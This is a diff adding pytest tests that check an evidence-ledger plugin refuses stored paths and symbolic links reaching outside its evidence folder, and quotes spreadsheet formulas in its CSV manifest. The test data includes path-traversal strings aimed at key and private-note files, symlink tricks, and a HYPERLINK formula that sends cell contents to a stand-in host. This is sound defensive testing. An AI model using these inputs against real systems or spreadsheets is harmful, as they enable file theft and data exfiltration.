@@ -1,0 +1,283 @@
+"""Stored evidence paths name files under the evidence folder only: a row written by hand (an
+office's psql, a crafted GeoPackage) naming another file, or a symbolic link put in the folder,
+is taken as a missing file by the export, the check, the sheets and the copy, and said."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import sqlite3
+import types
+import zipfile
+from pathlib import Path
+
+import pytest
+import shapely
+
+from zc_enforcement_plugin.core import evidence, export, ledger
+from zc_enforcement_plugin.core import ledger_schema as ls
+from zc_enforcement_plugin.core.ledger_migrate import copy_ledger
+
+PHOTO = b"\xff\xd8\xff\xe0 a field photo \xff\xd9"
+SECRET = b"-----BEGIN OPENSSH PRIVATE KEY----- not evidence"
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/tmp/x/id_rsa.jpg",
+        "../../brigade_private/notes.txt",
+        "S1/../../x.jpg",
+        "S1\\..\\..\\x.jpg",
+        "C:/Users/x.jpg",
+        "\\\\server\\share\\x.jpg",
+        "S1//x.jpg",
+        "./S1/x.jpg",
+        "S1/x.jpg/",
+        "",
+        "S1/x\x00.jpg",
+        None,
+    ],
+)
+def test_a_path_reaching_outside_the_evidence_folder_is_refused_saying_why(tmp_path, path):
+    with pytest.raises(evidence.EvidencePathError) as refused:
+        evidence.evidence_file(tmp_path, path)
+    message = str(refused.value)
+    assert message.startswith("证据路径被拒绝（") and " / evidence path refused (" in message
+    assert repr(path) in message
+
+
+def test_a_plain_relative_path_names_its_file_under_the_folder(tmp_path):
+    assert evidence.evidence_file(tmp_path, "S1/IMG_1.jpg") == tmp_path / "S1" / "IMG_1.jpg"
+    assert evidence.evidence_file(tmp_path, ".S1/a..b.jpg") == tmp_path / ".S1" / "a..b.jpg"
+
+
+def test_a_symbolic_link_anywhere_under_the_folder_is_refused(tmp_path):
+    root, private = tmp_path / "evidence", tmp_path / "private"
+    (root / "S1").mkdir(parents=True)
+    private.mkdir()
+    (private / "notes.jpg").write_bytes(SECRET)
+    (root / "S1" / "p.jpg").symlink_to(private / "notes.jpg")
+    (root / "S2").symlink_to(private)
+    for path in ("S1/p.jpg", "S2/notes.jpg"):
+        with pytest.raises(evidence.EvidencePathError, match="is a symbolic link"):
+            evidence.evidence_file(root, path)
+
+
+def _row(root: Path, number: str, stored: str, content: bytes = PHOTO, **fields):
+    record = ledger.EvidenceRecord(
+        ls.EVIDENCE_PHOTO,
+        stored,
+        hashlib.sha256(content).hexdigest(),
+        len(content),
+        id=len(stored),
+        spot_id=1,
+        **fields,
+    )
+    return export.ExportRow(1, number, "2026Q1", None, {}, [record])
+
+
+def _zip(tmp_path: Path, root: Path, rows) -> tuple[export.EvidenceZip, list[str], list[dict]]:
+    store = types.SimpleNamespace(evidence_dir=root)
+    result = export.write_evidence_zip(tmp_path / "e.zip", store, rows)
+    with zipfile.ZipFile(result.path) as archive:
+        names = archive.namelist()
+        text = archive.read(export.MANIFEST_NAME).decode("utf-8-sig")
+    return result, names, list(csv.DictReader(io.StringIO(text)))
+
+
+def test_the_export_zips_no_file_a_stored_path_names_outside_the_folder(tmp_path):
+    """The reviewer's rows: an absolute path to a key, and ../ to the brigade's notes."""
+    root, private = tmp_path / "share" / "evidence", tmp_path / "share" / "brigade_private"
+    (root / "S1").mkdir(parents=True)
+    private.mkdir()
+    (root / "S1" / "ok.jpg").write_bytes(PHOTO)
+    (private / "notes.txt").write_bytes(SECRET)
+    (tmp_path / "id_rsa.jpg").write_bytes(SECRET)
+    rows = [
+        _row(root, "S1", "S1/ok.jpg"),
+        _row(root, "S1", str(tmp_path / "id_rsa.jpg"), SECRET),
+        _row(root, "S1", "../brigade_private/notes.txt", SECRET),
+    ]
+    result, names, manifest = _zip(tmp_path, root, rows)
+    assert sorted(names) == sorted(["S1/ok.jpg", export.MANIFEST_NAME, export.MANIFEST_XLSX_NAME])
+    with zipfile.ZipFile(result.path) as archive:
+        assert all(SECRET not in archive.read(name) for name in archive.namelist())
+    assert [m[export.MANIFEST_CHECK] for m in manifest] == [
+        export.CHECK_OK,
+        export.CHECK_MISSING,
+        export.CHECK_MISSING,
+    ]
+    said = [problem.message for problem in result.problems]
+    assert len(said) == 2 and all("图斑 S1 的证据路径被拒绝" in m for m in said), said
+    assert "spot S1: evidence path refused (must be relative" in said[0]
+    assert said[0].endswith(f"not in the zip: {str(tmp_path / 'id_rsa.jpg')!r}")
+    assert said[1].endswith("not in the zip: '../brigade_private/notes.txt'")
+
+
+def test_the_export_zips_no_photo_replaced_by_a_symbolic_link(tmp_path):
+    root = tmp_path / "evidence"
+    (root / "S1").mkdir(parents=True)
+    (tmp_path / "notes.txt").write_bytes(SECRET)
+    (root / "S1" / "p.jpg").symlink_to(tmp_path / "notes.txt")
+    result, names, manifest = _zip(tmp_path, root, [_row(root, "S1", "S1/p.jpg")])
+    assert "S1/p.jpg" not in names
+    assert manifest[0][export.MANIFEST_CHECK] == export.CHECK_MISSING
+    assert "is a symbolic link" in result.problems[0].message
+
+
+def test_a_backslash_or_dots_never_make_a_zip_member_leave_its_spot_folder():
+    assert export._zip_member("S1", "S1/..\\..\\evil.jpg") == "S1/_.._evil.jpg"
+    assert export._zip_member("..", "S1/..") == "_/_"
+    assert export._zip_member("S\\1", "") == "S_1/_"
+
+
+def test_a_formula_in_a_text_column_of_the_manifest_is_quoted_and_a_negative_gps_kept(tmp_path):
+    """Excel runs '=HYPERLINK(…)' as a formula (OWASP CSV injection); a text starting with
+    = + - @ tab or CR gets a leading ' in manifest.csv. A negative longitude stays a number."""
+    root = tmp_path / "evidence"
+    (root / "S1").mkdir(parents=True)
+    (root / "S1" / "p.jpg").write_bytes(PHOTO)
+    rows = [
+        _row(
+            root,
+            "S1",
+            "S1/p.jpg",
+            original_name='=HYPERLINK("http://x.example/?"&A1,"photo")',
+            gps_lon=-117.25,
+            gps_lat=36.5,
+            taken_at="@2026",
+        )
+    ]
+    _, _, manifest = _zip(tmp_path, root, rows)
+    assert manifest[0][export.MANIFEST_ORIGINAL] == '\'=HYPERLINK("http://x.example/?"&A1,"photo")'
+    assert manifest[0][export.MANIFEST_TAKEN] == "'@2026"
+    assert manifest[0][export.MANIFEST_LON] == "-117.2500000"
+    assert manifest[0][export.MANIFEST_SPOT] == "S1"
+
+
+def test_a_sheet_prints_no_photo_whose_path_is_refused(tmp_path):
+    root = tmp_path / "evidence"
+    (root / "S1").mkdir(parents=True)
+    (tmp_path / "notes.jpg").write_bytes(PHOTO)
+    (root / "S1" / "link.jpg").symlink_to(tmp_path / "notes.jpg")
+    for stored in ("../notes.jpg", "S1/link.jpg"):
+        photos = _row(root, "S1", stored).sheet_photos(root)
+        assert (photos.shown, photos.missing) == ([], 1), stored
+
+
+def _ledger_with_photo(folder: Path) -> tuple[ledger.GeoPackageLedger, int]:
+    folder.mkdir(parents=True)
+    store = ledger.GeoPackageLedger(folder / "ledger.gpkg")
+    store.import_batch("b", [ledger.SpotRecord({"JCBH": "S1"}, shapely.box(0, 0, 9, 9))])
+    spot = store.spots()[0].id
+    photo = folder.parent / "camera.jpg"
+    photo.write_bytes(PHOTO)
+    store.add_evidence(spot, evidence.store_evidence_file(store.path, "S1", photo, "photo"))
+    return store, spot
+
+
+def _insert_by_hand(path: Path, stored: str) -> None:
+    """An evidence row written past the plugin (sqlite3, as psql on a server)."""
+    conn = sqlite3.connect(str(path))
+    try:
+        columns = [row[1] for row in conn.execute(f"PRAGMA table_info({ls.T_EVIDENCE})")]
+        copied = [c for c in columns if c != ls.C_ID]
+        chosen = ["?" if c == ls.C_PATH else c for c in copied]
+        conn.execute(
+            f"INSERT INTO {ls.T_EVIDENCE} ({', '.join(copied)}) SELECT {', '.join(chosen)} "
+            f"FROM {ls.T_EVIDENCE} LIMIT 1",
+            (stored,),
+        )
+        conn.commit()
+    finally:
+        conn.close()
+
+
+def test_the_evidence_check_takes_a_path_outside_the_folder_as_missing_saying_why(tmp_path):
+    store, _ = _ledger_with_photo(tmp_path / "office")
+    (tmp_path / "private.txt").write_bytes(PHOTO)  # same bytes: only the path tells
+    store.close()
+    _insert_by_hand(tmp_path / "office" / "ledger.gpkg", "../../private.txt")
+    with ledger.GeoPackageLedger(tmp_path / "office" / "ledger.gpkg") as store:
+        problems = evidence.check_evidence_integrity(store)
+        states = evidence.EvidenceFileStates()
+        found = [states.state(store.evidence_dir, r) for r in store.evidence()]
+    assert [p.problem for p in problems] == [evidence.FILE_MISSING]
+    assert problems[0].path == "../../private.txt"
+    assert "的证据路径被拒绝" in problems[0].message
+    assert problems[0].message.endswith("taken as missing, the file not read: '../../private.txt'")
+    assert sorted(found) == ["", evidence.FILE_MISSING]
+
+
+def test_attaching_into_a_spot_folder_that_is_a_symbolic_link_is_refused(tmp_path):
+    root, elsewhere = tmp_path / "evidence", tmp_path / "elsewhere"
+    root.mkdir()
+    elsewhere.mkdir()
+    (root / "S1").symlink_to(elsewhere)
+    photo = tmp_path / "camera.jpg"
+    photo.write_bytes(PHOTO)
+    with pytest.raises(ledger.LedgerError) as refused:
+        evidence.store_evidence_in(root, "S1", photo, ls.EVIDENCE_PHOTO)
+    message = str(refused.value)
+    assert "图斑 S1 的证据文件夹" in message and "未记录任何证据" in message
+    assert message.endswith("is a symbolic link): nothing was recorded")
+    assert list(elsewhere.iterdir()) == []
+
+
+def test_a_copy_of_a_ledger_with_a_path_outside_its_folder_is_refused_writing_nothing(tmp_path):
+    """copyledger wrote the file named '../../brigade_private/notes.txt' beside the target."""
+    store, _ = _ledger_with_photo(tmp_path / "src")
+    store.close()
+    (tmp_path / "brigade_private").mkdir()
+    (tmp_path / "brigade_private" / "notes.txt").write_bytes(PHOTO)
+    _insert_by_hand(tmp_path / "src" / "ledger.gpkg", "../brigade_private/notes.txt")
+    (tmp_path / "copy1" / "sub").mkdir(parents=True)
+    with (
+        ledger.GeoPackageLedger(tmp_path / "src" / "ledger.gpkg") as source,
+        ledger.GeoPackageLedger(tmp_path / "copy1" / "sub" / "ledger.gpkg") as target,
+    ):
+        with pytest.raises(ledger.LedgerError) as refused:
+            copy_ledger(source, target)
+        assert target.evidence() == []
+    message = str(refused.value)
+    assert "未复制任何内容" in message and "nothing was copied" in message
+    assert "'../brigade_private/notes.txt'" in message and "spot fid 1" in message
+    assert sorted(p.name for p in (tmp_path / "copy1" / "sub").iterdir()) == ["ledger.gpkg"]
+
+
+def test_a_copy_follows_no_symbolic_link_of_the_source_folder(tmp_path):
+    store, _ = _ledger_with_photo(tmp_path / "src")
+    recorded = store.evidence()[0]
+    store.close()
+    photo = tmp_path / "src" / "evidence" / recorded.path
+    photo.unlink()
+    (tmp_path / "secret.jpg").write_bytes(PHOTO)
+    photo.symlink_to(tmp_path / "secret.jpg")
+    (tmp_path / "dst").mkdir()
+    with (
+        ledger.GeoPackageLedger(tmp_path / "src" / "ledger.gpkg") as source,
+        ledger.GeoPackageLedger(tmp_path / "dst" / "ledger.gpkg") as target,
+    ):
+        report = copy_ledger(source, target)
+    assert report.files_copied == 0
+    assert any("is a symbolic link" in said and "not copied" in said for said in report.problems)
+    assert not (tmp_path / "dst" / "evidence" / recorded.path).exists()
+
+
+@pytest.mark.parametrize("stored", ["S1\\x.jpg", "C:/x.jpg", "S1//x.jpg", "../x.jpg"])
+def test_recording_evidence_under_a_path_the_rule_refuses_is_refused_saying_why(tmp_path, stored):
+    """The ledger's own add_evidence holds a path to the rule its readers (and the server's
+    check) hold it to: a backslash was taken, and a shared ledger then refused the row with
+    the server's bare CHECK error."""
+    store, spot = _ledger_with_photo(tmp_path / "office")
+    with store:
+        record = store.evidence()[0]
+        record.path, record.id = stored, None
+        with pytest.raises(ledger.LedgerError) as refused:
+            store.add_evidence(spot, record)
+        assert len(store.evidence()) == 1
+    message = str(refused.value)
+    assert message.startswith("证据路径须在证据文件夹内（")
+    assert message.endswith(f"): {stored!r}") and "evidence path must lie inside" in message
